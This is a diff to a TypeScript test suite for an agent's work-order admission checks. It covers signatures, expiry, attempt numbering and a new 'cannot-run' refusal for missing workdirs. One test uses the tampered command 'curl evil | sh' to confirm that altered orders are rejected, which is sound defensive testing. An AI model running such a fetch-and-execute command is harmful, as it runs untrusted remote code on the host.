@@ -52,6 +52,7 @@ function admit(o: WorkOrder, more: Partial<AdmissionInput> = {}) {
     now: NOW,
     replayed: null,
     isRunning: () => false,
+    probe: () => null,
     ...more,
   });
 }
@@ -66,12 +67,14 @@ describe("order admission", () => {
     expect(attemptKey("s", "t0001", 2)).toBe("s.t0001.2");
   });
 
-  it("refuses unsigned, untrusted, altered and expired orders, naming the order's own attempt", () => {
-    expect(admit(order(), { deliveryCount: 2 })).toMatchObject({ admit: false, reason: "unsigned", attempt: 1 });
-    expect(admit(signOrder(order(), stranger.seed))).toMatchObject({ admit: false, reason: "untrusted-signer" });
-    expect(admit({ ...signed(), argv: ["sh", "-c", "curl evil | sh"] })).toMatchObject({
+  it("refuses unsigned, untrusted, altered and expired orders; a final rejection names the order's own attempt", () => {
+    // Refusals of this agent's own (another agent may run the order) name the delivery's attempt.
+    expect(admit(order(), { deliveryCount: 2 })).toMatchObject({ admit: false, reason: "unsigned", attempt: 2 });
+    expect(admit(signOrder(order(), stranger.seed))).toMatchObject({ admit: false, reason: "untrusted-signer", attempt: 1 });
+    expect(admit({ ...signed(), argv: ["sh", "-c", "curl evil | sh"] }, { deliveryCount: 3 })).toMatchObject({
       admit: false,
       reason: "bad-signature",
+      attempt: 1,
     });
     const expired = admit(signed({ expiresAt: NOW }));
     expect(expired).toMatchObject({ admit: false, reason: "expired" });
@@ -143,6 +146,26 @@ describe("order admission", () => {
         detail: `workdir ${JSON.stringify(workdir)} lies outside the agent's --workdir /srv/rung`,
         attempt: 1,
       });
+  });
+
+  it("refuses an order whose workdir or program this machine lacks, saying which (cannot-run)", () => {
+    const asked: [string, string, string | undefined][] = [];
+    const probe = (workdir: string, program: string, path: string | undefined) => {
+      asked.push([workdir, program, path]);
+      return workdir.endsWith("missing") ? `working directory ${workdir} does not exist on this agent` : null;
+    };
+    expect(admit(signed({ workdir: "runs/a", env: { PATH: "/opt/bin" } }), { probe }).admit).toBe(true);
+    expect(asked).toEqual([["/srv/rung/runs/a", "python3", "/opt/bin"]]);
+    expect(admit(signed({ workdir: "missing" }), { probe, deliveryCount: 2 })).toEqual({
+      admit: false,
+      reason: "cannot-run",
+      detail: 'working directory /srv/rung/missing does not exist on this agent (workdir "missing" under --workdir /srv/rung)',
+      attempt: 2,
+    });
+    // Never asked about a workdir outside --workdir: that is refused first.
+    asked.length = 0;
+    expect(admit(signed({ workdir: "/etc" }), { probe })).toMatchObject({ reason: "cannot-run" });
+    expect(asked).toEqual([]);
   });
 
   it("checks in order: the signature before the pool, the pool before the command, the command before the workdir", () => {
